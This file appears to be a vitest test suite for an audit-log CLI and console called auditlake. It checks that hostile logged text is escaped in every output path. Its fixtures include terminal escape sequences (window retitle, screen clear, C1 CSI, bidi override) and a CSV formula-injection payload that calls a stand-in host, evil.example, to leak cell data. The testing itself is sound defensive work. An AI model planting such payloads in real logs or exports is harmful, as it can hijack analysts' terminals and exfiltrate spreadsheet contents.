/**
 * Logged text is chosen by whoever wrote the log — the user name a sign-in or a role change
 * names, a role's display name, a user agent — and auditlake prints it to an analyst's terminal.
 * Escape sequences in it must not act there (retitle the window, clear the screen, hide or
 * recolour a line), nor bidi overrides reorder it, nor a formula run in the spreadsheet a CSV
 * download is opened in: the real CLI over a real database, from a replayed record carrying
 * them to every way it is printed.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { repoRoot, runCliAsync, type CliResult } from './support/cli.js';
import { tempDir, writeFile } from './support/db.js';
import { withServe } from './support/serve.js';

const tmp = tempDir('auditlake-terminal-');
afterAll(() => tmp.cleanup());
const db = join(tmp.dir, 'hostile.duckdb');

// An OSC title, a BEL, a screen clear, a C1 CSI (U+009B), DEL, and a right-to-left override.
const HOSTILE = '\u001b]0;pwned\u0007\u001b[2J\u009b8m\u007f\u202e';
const ADMIN = `eve${HOSTILE}@contoso-ml.example`;
const ROLE = `Global Administrator${HOSTILE}`;
// A formula a spreadsheet would run, as anyone can put one in the user name of a failed sign-in.
const AGENT = `=HYPERLINK("https://evil.example/?"&A1)${HOSTILE}`;

/** What a terminal acts on, but for the line breaks that lay a text out. */
const UNSAFE = /[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

/** The fixture's Global Administrator grant, made by and to names carrying HOSTILE. */
function hostileGrant(): string {
  const line = readFileSync(join(repoRoot, 'fixtures/entra/role-membership.ndjson'), 'utf8').split('\n')[0]!;
  const r = JSON.parse(line);
  r.properties.initiatedBy.user.userPrincipalName = ADMIN;
  r.properties.targetResources[0].userPrincipalName = `bob${HOSTILE}@contoso-ml.example`;
  for (const p of r.properties.targetResources[0].modifiedProperties) if (p.displayName === 'Role.DisplayName') p.newValue = JSON.stringify(ROLE);
  r.properties.additionalDetails = [{ key: 'User-Agent', value: AGENT }];
  return `${JSON.stringify(r)}\n`;
}

let replayed: CliResult;
let alertId: string;

beforeAll(async () => {
  replayed = await runCliAsync(['replay', writeFile(tmp.dir, 'grant.ndjson', hostileGrant()), '--db', db]);
  expect(replayed.code, replayed.stderr).toBe(0);
  const ids = await runCliAsync(['query', '--db', db, '--format', 'csv', "SELECT alert_id FROM alerts WHERE detector_id = 'entra.admin-role-added'"]);
  alertId = ids.stdout.split('\r\n')[1]!;
  expect(alertId).toMatch(/^[0-9a-f]{8,}$/);
}, 60_000);

describe('hostile logged text at the terminal', () => {
  it('is stored as logged, but for the control characters every text column replaces (the role name, a fact, as the others)', async () => {
    const r = await runCliAsync(['query', '--db', db, '--format', 'json', 'SELECT principal_name, role_name, user_agent FROM events']);
    expect(r.code, r.stderr).toBe(0);
    const [row] = JSON.parse(r.stdout) as Array<Record<string, string>>;
    const cleaned = (s: string) => s.replace(/[\x00-\x1f]/g, ' ');
    expect(row).toEqual({ principal_name: cleaned(ADMIN), role_name: cleaned(ROLE), user_agent: cleaned(AGENT) });
    // DEL, C1 and bidi controls are kept (they are text as logged): the printing escapes them.
    expect(row!.principal_name).toContain('\u009b8m\u007f\u202e');
  });

  it('replay\'s summary and alert list print none of it raw', () => {
    expect(replayed.stdout).toContain('entra.admin-role-added');
    expect(replayed.stdout).toContain('eve ]0;pwned  [2J\\u009b8m\\u007f\\u202e@contoso-ml.example');
    expect(replayed.stdout).not.toMatch(UNSAFE);
  });

  it('tables (query, alerts) and the alert report escape it; JSON and NDJSON hold it as JSON escapes', async () => {
    const printed = await Promise.all([
      ['query', '--db', db, 'SELECT principal_name, target, role_name, user_agent, details FROM events'],
      ['query', '--db', db, '--format', 'ndjson', 'SELECT principal_name, target, role_name, user_agent, details FROM events'],
      ['query', '--db', db, '--format', 'json', 'SELECT principal_name, raw FROM events'],
      ['alerts', '--db', db, '--since', '3650d'],
      ['alerts', 'show', '--db', db, alertId],
      ['alerts', 'show', '--db', db, alertId, '--format', 'json'],
    ].map((args) => runCliAsync(args)));
    for (const r of printed) {
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain('\\u009b8m\\u007f\\u202e');
      expect(r.stdout).not.toMatch(UNSAFE);
    }
    // The same values once parsed: the C1 CSI, DEL and override are there, escaped, not lost.
    const [, ndjson, , , , shown] = printed;
    expect((JSON.parse(ndjson!.stdout) as { principal_name: string }).principal_name).toBe(ADMIN.replace(/[\x00-\x1f]/g, ' '));
    expect((JSON.parse(shown!.stdout) as { alert: { principal_name: string } }).alert.principal_name).toBe(ADMIN.replace(/[\x00-\x1f]/g, ' '));
  });

  it('CSV to a pipe or a file keeps values exact (it has no escape of its own)', async () => {
    const r = await runCliAsync(['query', '--db', db, '--format', 'csv', 'SELECT principal_name, user_agent FROM events']);
    expect(r.stdout.split('\r\n')[1]).toBe(`${ADMIN.replace(/[\x00-\x1f]/g, ' ')},"${AGENT.replace(/[\x00-\x1f]/g, ' ').replace(/"/g, '""')}"`);
  });

  it('the console shows a bidi override or a control character as its escape, so a name cannot read as another', async () => {
    const browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', args: ['--no-sandbox'] });
    try {
      await withServe(['--db', db, '--port', '0'], async (served) => {
        const page = await browser.newPage();
        await page.goto(`${served.url}/?token=${readFileSync(`${db}.token`, 'utf8').trim()}`);
        // The page's router listens for the address once it has drawn its first view: a change before that is not seen.
        await page.getByTestId('alerts-table').waitFor();
        await page.goto(`${served.url}/#/alert/${alertId}`);
        const shown = await page.getByTestId('alert-detail').textContent();
        expect(shown).toContain('eve ]0;pwned  [2J\\u009b8m\\u007f\\u202e@contoso-ml.example');
        expect(shown).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      });
    } finally {
      await browser.close();
    }
  }, 60_000);

  it('the console\'s CSV download, made for a spreadsheet, shows a formula rather than running it', async () => {
    await withServe(['--db', db, '--port', '0'], async (served) => {
      const token = readFileSync(`${db}.token`, 'utf8').trim();
      const r = await fetch(`${served.url}/api/sql`, {
        method: 'POST', headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
        body: JSON.stringify({ sql: "SELECT user_agent, principal_name, -1 AS n, '-1' AS t FROM events", format: 'csv' }),
      });
      expect(r.status).toBe(200);
      const [, row] = (await r.text()).split('\r\n');
      expect(row).toBe(`"'${AGENT.replace(/[\x00-\x1f]/g, ' ').replace(/"/g, '""')}",${ADMIN.replace(/[\x00-\x1f]/g, ' ')},-1,'-1`);
    });
  });
});
